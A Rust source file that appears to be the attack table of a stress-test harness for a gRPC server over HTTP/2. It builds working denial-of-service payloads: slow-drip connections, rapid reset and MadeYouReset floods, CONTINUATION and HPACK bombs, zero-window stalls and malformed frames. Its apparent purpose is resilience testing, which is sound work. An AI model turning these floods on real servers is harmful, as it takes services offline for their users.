//! All attacks, in the order of the table: those that hold connections ([`held`]), those that send frames as fast as they are
//! taken ([`floods`]), and those that make calls ([`halves`], [`messages`], [`random`]).

pub(crate) mod asked;
mod calling;
mod floods;
mod halves;
mod held;
mod messages;
mod random;

use std::time::Duration;

use floods::Flood;
use held::{Hears, Held};

use crate::attack::Attack;
use crate::wire::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GREETING, HEADERS, PING, PRIORITY, RST_STREAM, calls, claiming, frame,
    head, header, opens, set, window,
};
use asked::{BOARDS, LOOK_UP, MIN_SWAPS, RANK, boards, client_hello, look_up, noise, rank, swaps};

/// An attack of this kind.
macro_rules! attack {
    ($name:literal, $what:literal, $kind:expr) => {
        Attack::new($name, $what, |target| Box::pin(async move { $kind.run(target).await }))
    };
}

/// Streams of a piece of a flood.
const STREAMS: u32 = 100;
/// Frames of a piece of a flood on one stream.
const FRAMES: usize = 200;
/// After so many streams a connection has no numbers left to speak of, and a new one is made.
const ROUNDS: u32 = 100_000;

/// The streams of this round.
fn streams(round: u32) -> impl Iterator<Item = u32> {
    (0..STREAMS).map(move |at| (round * STREAMS + at) * 2 + 1)
}

/// A piece that makes something of each stream of its round.
fn of_streams(round: u32, make: impl Fn(u32) -> Vec<u8>) -> Option<Vec<u8>> {
    (round < ROUNDS).then(|| streams(round).flat_map(make).collect())
}

/// So many of one frame.
fn repeated(frame: &[u8]) -> Vec<u8> {
    frame.repeat(FRAMES)
}

/// Whole calls on streams 1, 3, 5 and so on, on a connection whose answers have this much window.
fn unread(streams: u32, opens: u32, path: &str, message: &[u8]) -> Vec<u8> {
    let mut bytes = [GREETING, &set(4, opens)].concat();
    (0..streams).for_each(|at| bytes.extend(calls(at * 2 + 1, path, message)));
    bytes
}

fn held() -> Held {
    Held::default()
}

/// A flood of frames of HTTP/2 that begins with nothing.
const FLOOD: Flood =
    Flood { opening: Vec::new, then: |_| None, unit: "frames", units: FRAMES as u64, greets: true, hangs_up: false };

pub(crate) const ALL: &[Attack] = &[
    attack!("tcp silent", "1,000 connections that say nothing", held()).lasts(12),
    attack!(
        "preface dribble",
        "1,000 connections, the preface of HTTP/2 byte by byte, one a second",
        Held { drip: GREETING.to_vec(), ..held() }
    )
    .lasts(12),
    attack!(
        "tls dribble",
        "1,000 connections, a ClientHello byte by byte, one a second",
        Held { drip: client_hello(), ..held() }
    )
    .secured()
    .lasts(12),
    attack!("tls half", "1,000 connections, a ClientHello, then nothing", Held { opening: client_hello(), ..held() })
        .secured()
        .lasts(12),
    attack!(
        "tls flood",
        "ClientHello, hang up, again, on 8 connections",
        Flood { greets: false, hangs_up: true, opening: client_hello, ..FLOOD }
    )
    .secured(),
    attack!(
        "half headers",
        "1,000 connections, HEADERS without END_HEADERS, then nothing",
        Held { opening: [GREETING, &frame(HEADERS, 0, 1, &head(MIN_SWAPS))].concat(), hears: Hears::Frames, ..held() }
    )
    .lasts(12),
    attack!(
        "body dribble",
        "1,000 connections, one call each, its message byte by byte, one a second",
        Held {
            opening: [GREETING, &opens(1, MIN_SWAPS)].concat(),
            drip: swaps().chunks(1).flat_map(|byte| frame(DATA, 0, 1, byte)).collect(),
            piece: 10,
            hears: Hears::Frames,
            ..held()
        }
    )
    .lasts(24),
    attack!(
        "no bodies",
        "40 connections, 256 calls each without a message",
        Held {
            connections: 40,
            opening: (0..256).fold(GREETING.to_vec(), |all, at| [all, opens(at * 2 + 1, MIN_SWAPS)].concat()),
            hears: Hears::Frames,
            ..held()
        }
    )
    .lasts(24),
    attack!(
        "http/1.1 dribble",
        "1,000 connections, a header of HTTP/1.1 byte by byte, one a second",
        Held {
            opening: b"POST /tilewright.v1.PuzzleService/MinSwaps HTTP/1.1\r\nhost: bench\r\nx-slow: ".to_vec(),
            drip: vec![b'x'; 100],
            ..held()
        }
    )
    .flags(&["--grpc-web", "on"])
    .lasts(12),
    attack!(
        "http/1.1 headers",
        "1,000 connections, 400 KB of headers of HTTP/1.1 that do not end",
        Held { opening: [&b"POST / HTTP/1.1\r\nhost: bench\r\nx-long: "[..], &vec![b'x'; 400_000]].concat(), ..held() }
    )
    .flags(&["--grpc-web", "on"])
    .lasts(12),
    attack!(
        "rapid reset",
        "HEADERS and RST_STREAM as fast as it goes (CVE-2023-44487), 8 connections",
        Flood {
            then: |round| of_streams(round, |stream| {
                [opens(stream, MIN_SWAPS), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
            }),
            unit: "calls",
            units: u64::from(STREAMS),
            ..FLOOD
        }
    ),
    attack!(
        "made you reset",
        "whole calls, each with a WINDOW_UPDATE too many, so that the server must reset it (CVE-2025-8671), 8 connections",
        Flood {
            then: |round| of_streams(round, |stream| [calls(stream, RANK, &rank()), window(stream, 0x7fff_ffff)]
                .concat()),
            unit: "calls",
            units: u64::from(STREAMS),
            ..FLOOD
        }
    ),
    attack!(
        "continuations",
        "CONTINUATION without end (CVE-2024-27316), 1 KiB each, 8 connections",
        Flood {
            opening: || frame(HEADERS, 0, 1, &head(MIN_SWAPS)),
            then: |_| Some(repeated(&frame(CONTINUATION, 0, 1, &header("x", &[b'x'; 1000], false)))),
            ..FLOOD
        }
    ),
    attack!(
        "empty continuations",
        "CONTINUATION without anything, 8 connections",
        Flood {
            opening: || frame(HEADERS, 0, 1, &head(MIN_SWAPS)),
            then: |_| Some(repeated(&frame(CONTINUATION, 0, 1, &[]))),
            ..FLOOD
        }
    ),
    attack!(
        "empty data",
        "empty DATA without end, 8 connections",
        Flood { opening: || opens(1, MIN_SWAPS), then: |_| Some(repeated(&frame(DATA, 0, 1, &[]))), ..FLOOD }
    ),
    attack!(
        "pings",
        "PING, 8 connections",
        Flood { then: |_| Some(repeated(&frame(PING, 0, 0, b"tilewrig"))), ..FLOOD }
    ),
    attack!(
        "unread pings",
        "PING and SETTINGS, 100 connections that never read the answers",
        Held {
            connections: 100,
            opening: GREETING.to_vec(),
            drip: [frame(PING, 0, 0, b"tilewrig"), set(3, 100)].concat().repeat(100_000),
            piece: 32_000,
            every: Duration::from_millis(10),
            hears: Hears::Nothing
        }
    ),
    attack!("settings", "SETTINGS, 8 connections", Flood { then: |_| Some(repeated(&set(4, 65_535))), ..FLOOD }),
    attack!(
        "priorities",
        "PRIORITY of streams that are not there, 8 connections",
        Flood { then: |round| of_streams(round, |id| frame(PRIORITY, 0, id, &[0, 0, 0, 0, 7])), units: 100, ..FLOOD }
    ),
    attack!(
        "empty headers",
        "HEADERS with nothing in them, END_STREAM, 8 connections",
        Flood {
            then: |round| of_streams(round, |id| frame(HEADERS, END_HEADERS | END_STREAM, id, &[])),
            units: 100,
            ..FLOOD
        }
    ),
    attack!(
        "window updates",
        "WINDOW_UPDATE of 1 byte, 8 connections",
        Flood { opening: || opens(1, MIN_SWAPS), then: |_| Some(repeated(&window(1, 1))), ..FLOOD }
    ),
    attack!(
        "hpack bomb",
        "a header of 4 KB indexed once, then named 16,000 times in 16 KB, again and again, 8 connections",
        Flood {
            then: |round| {
                let bomb = |at: u32| {
                    let first = if at == 0 && round == 0 { header("x", &[b'x'; 4000], true) } else { Vec::new() };
                    let block = [head(MIN_SWAPS), first].concat();
                    [
                        frame(HEADERS, END_STREAM, (round * 10 + at) * 2 + 1, &block),
                        frame(CONTINUATION, END_HEADERS, (round * 10 + at) * 2 + 1, &[0xbe; 16_000]),
                    ]
                    .concat()
                };
                Some((0..10).flat_map(bomb).collect())
            },
            unit: "calls",
            units: 10,
            ..FLOOD
        }
    ),
    attack!(
        "huge headers",
        "calls with a header of 64 KB, 8 connections",
        Flood {
            then: |round| of_streams(round, |id| with_headers(id, &header("x", &[b'x'; 64_000], false))),
            unit: "calls",
            units: 100,
            ..FLOOD
        }
    ),
    attack!(
        "cookies",
        "calls with 150 cookies and a grpc-timeout of 4 KB, as many bytes as are allowed, 8 connections",
        Flood {
            then: |round| {
                let cookies = header("cookie", &[b'c'; 10], false).repeat(150);
                let block = [cookies, header("grpc-timeout", &[b'9'; 4000], false)].concat();
                of_streams(round, |id| [with_headers(id, &block), frame(DATA, END_STREAM, id, &swaps())].concat())
            },
            unit: "calls",
            units: 100,
            ..FLOOD
        }
    ),
    attack!(
        "3,000 streams",
        "3,000 calls without a message on each of 8 connections",
        Held {
            connections: 8,
            opening: (0..3000).fold(GREETING.to_vec(), |mut all, at| {
                all.extend(opens(at * 2 + 1, MIN_SWAPS));
                all
            }),
            hears: Hears::Frames,
            ..held()
        }
    ),
    attack!(
        "10,000 connections",
        "10,000 connections that greet and do nothing",
        Held { connections: 10_000, opening: GREETING.to_vec(), hears: Hears::Frames, ..held() }
    )
    .lasts(10),
    attack!(
        "no window, streams",
        "100 connections, a GenerateBoards of 10,000 seeds each, a window of 0",
        Held { connections: 100, opening: unread(1, 0, BOARDS, &boards()), hears: Hears::Frames, ..held() }
    )
    .flags(&["--send-timeout", "3s"])
    .lasts(10),
    attack!(
        "no window, small answers",
        "200 connections, 9 LookUpWords of 1,000 words each, a window of 0",
        Held { connections: 200, opening: unread(9, 0, LOOK_UP, &look_up()), hears: Hears::Frames, ..held() }
    )
    .flags(&["--send-timeout", "3s"])
    .lasts(13),
    attack!(
        "byte by byte",
        "40 connections, 8 RankGuesses of 1,000 with buckets each, windows of 1 byte more each 10 ms",
        Held {
            connections: 40,
            opening: unread(8, 1, RANK, &rank()),
            drip: (0..8).flat_map(|at| window(at * 2 + 1, 1)).collect::<Vec<u8>>().repeat(1000),
            piece: 8 * 13,
            every: Duration::from_millis(10),
            hears: Hears::Frames,
        }
    )
    .flags(&["--send-timeout", "3s"])
    .lasts(10),
    attack!(
        "never reads",
        "40 connections, 8 RankGuesses of 1,000 with buckets each, all windows open, and nothing is read",
        Held {
            connections: 40,
            opening: [unread(8, 1 << 30, RANK, &rank()), window(0, 1 << 30)].concat(),
            hears: Hears::Nothing,
            ..held()
        }
    )
    .flags(&["--send-timeout", "3s"])
    .lasts(13),
    attack!(
        "half open",
        "1,000 connections, a call without a message on each; the peer stops, and never answers again (--keepalive 1s)",
        Held { opening: [GREETING, &opens(1, MIN_SWAPS)].concat(), hears: Hears::Frames, ..held() }
    )
    .flags(&["--keepalive", "1s"])
    .freezes()
    .lasts(27),
    attack!(
        "garbage",
        "random bytes, new connections, 8 at once",
        Flood { greets: false, then: |round| (round < 4).then(|| noise(4096)), unit: "pieces", units: 1, ..FLOOD }
    ),
    attack!(
        "garbage behind a greeting",
        "random bytes after HTTP/2's greeting, new connections, 8 at once",
        Flood { then: |round| (round < 4).then(|| noise(4096)), unit: "pieces", units: 1, ..FLOOD }
    ),
    attack!(
        "http/1.1 to gRPC",
        "POST over HTTP/1.1 where --grpc-web is off, new connections, 8 at once",
        Flood { greets: false, opening: || b"POST / HTTP/1.1\r\nhost: bench\r\n\r\n".to_vec(), ..FLOOD }
    ),
    attack!(
        "tls to plain",
        "a ClientHello to a port in plain text, new connections, 8 at once",
        Flood { greets: false, opening: client_hello, ..FLOOD }
    ),
    attack!(
        "wrong lengths",
        "frames that claim up to 16 MB, or less than they must have, new connections, 8 at once",
        Flood { opening: wrong_length, ..FLOOD }
    ),
    Attack::new(
        "half messages",
        "8 connections, 128 calls each, of their messages all of 1 MiB but the last byte, half of them in games",
        |target| Box::pin(halves::run(target)),
    )
    .lasts(24),
    Attack::new(
        "messages",
        "a message that claims 4 GiB; 1 MiB of empty repeated fields, of nested and of unknown groups; \
        flags of compression; 16 calls at once",
        |target| Box::pin(messages::run(target)),
    )
    .lasts(8),
    Attack::new(
        "random calls",
        "a million calls of all methods: valid requests of random fields, some with bytes changed, \
        and random bytes; deadlines of 2 to 100 ms; 4 connections, 64 calls each",
        |target| Box::pin(random::run(target)),
    )
    .lasts(300),
];

/// A call with more headers, in as many frames as they need.
fn with_headers(stream: u32, more: &[u8]) -> Vec<u8> {
    let mut frames = frame(HEADERS, 0, stream, &head(MIN_SWAPS));
    for piece in more.chunks(16_000) {
        frames.extend(frame(CONTINUATION, 0, stream, piece));
    }
    frames.extend(frame(CONTINUATION, END_HEADERS, stream, &[]));
    frames
}

/// One frame, with a length that it cannot have.
fn wrong_length() -> Vec<u8> {
    let (kind, lengths) = (noise(1)[0] % 10, [0, 1, 3, 5, 7, 9, 16_385, 1 << 20, 0x00ff_ffff]);
    let length = lengths[usize::from(noise(1)[0]) % lengths.len()];
    claiming(length, kind, 0, u32::from(!(4..=7).contains(&kind)), &noise(length.min(1 << 15)))
}
